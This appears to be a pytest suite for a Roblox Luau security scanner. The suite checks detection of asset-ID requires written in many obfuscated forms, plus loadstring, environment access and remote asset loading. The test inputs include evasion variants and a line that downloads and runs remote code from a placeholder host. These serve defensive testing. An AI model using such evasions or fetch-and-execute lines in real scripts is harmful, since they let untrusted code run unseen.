from __future__ import annotations

import pytest

from .sources import found

REQUIRES_ASSET = [
    "require(1234567)",
    "require(0x12D687)",
    "require(0b100110101)",
    "require(12_345_67)",
    "require((1234567))",
    "require(1234000 + 567)",
    "require(1e6 :: any)",
    'require(tonumber("1234567"))',
    'require(tonumber("12D687", 16))',
    'require(tonumber("1234" .. 567))',
    'require(tonumber(("7654321"):reverse()))',
    "require(tonumber(string.char(49, 50, 51, 52)))",
    'require(tonumber("\\49\\x32\\u{33}4"))',
    'require(table.concat({"12", "3456"}))',
    "require(`12{34}56`)",
    'require("rbxassetid://1234567")',
    "require(bit32.bxor(5, 1000000))",
    'require(#("x"):rep(5000))',
    "local id = 1234567 require(id)",
    "local id = 1 id = 1234567 require(id)",
    "local t = {id = 1234567} require(t.id)",
    "local t = {1234567} require(t[1])",
    "local t = {} t.id = 1234567 require(t.id)",
    "local load = require load(1234567)",
    "local function require() end require(1234567)",
    "pcall(require, 1234567)",
    "task.spawn(require, 1234567)",
    '_G["require"](1234567)',
    'getfenv()["\\114equire"](1234567)',
    'getfenv()[("eriuqer"):reverse()](1234567)',
    "local e = getfenv local r = e()[string.char(114,101,113,117,105,114,101)] r(1234567)",
]


@pytest.mark.parametrize("source", REQUIRES_ASSET)
def test_requiring_an_asset_however_it_is_written(source):
    assert ("require-asset-id", 1) in found(source)


@pytest.mark.parametrize(
    "source",
    [
        "require(script.Parent.Quiz)",
        'require(game:GetService("ReplicatedStorage"):WaitForChild("Quiz"))',
        'require("./Quiz")',
        'require("@game/ReplicatedStorage/Quiz")',
        "local module = script.Quiz require(module)",
        "-- require(1234567)",
        'print("require(1234567)")',
        "local required = 5 acquire(1234567)",
        "for _, module in modules do require(module) end",
    ],
)
def test_requiring_modules_is_fine(source):
    assert found(source) == set()


@pytest.mark.parametrize(
    "source",
    ["require(tonumber(x))", "require(a .. b)", "require(n * 2)", "require(math.floor(x))"],
)
def test_a_computed_argument_that_cannot_be_told(source):
    assert found(source) == {("require-computed", 1)}


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        ('loadstring("print(1)")()', "loadstring"),
        ("local run = loadstring", "loadstring"),
        ("pcall(loadstring, text)", "loadstring"),
        ('loadstring(game:HttpGet("https://example.com/x"))()', "loadstring-download"),
        ("local t = http:GetAsync(u) loadstring(t)()", "loadstring-download"),
        ("getfenv(2)", "environment-access"),
        ("local set = setfenv", "environment-access"),
        ('game:GetService("InsertService"):LoadAsset(55)', "insert-asset"),
        ('game:GetObjects("rbxassetid://55")', "insert-asset"),
    ],
)
def test_other_ways_to_bring_in_code(source, rule):
    assert (rule, 1) in found(source)


@pytest.mark.parametrize(
    "source",
    [
        "local loadstringEnabled = true",
        "x.getfenv2 = 1",
        "-- loadstring(x)",
        "self:LoadAssets(list)",
        'print("getfenv")',
        "folder:GetChildren()",
    ],
)
def test_names_that_only_look_alike(source):
    assert found(source) == set()


def test_download_is_not_reported_twice():
    source = 'loadstring(game:HttpGet("https://example.com/x"))()'
    assert {rule for rule, _ in found(source)} == {"loadstring-download", "http-request"}
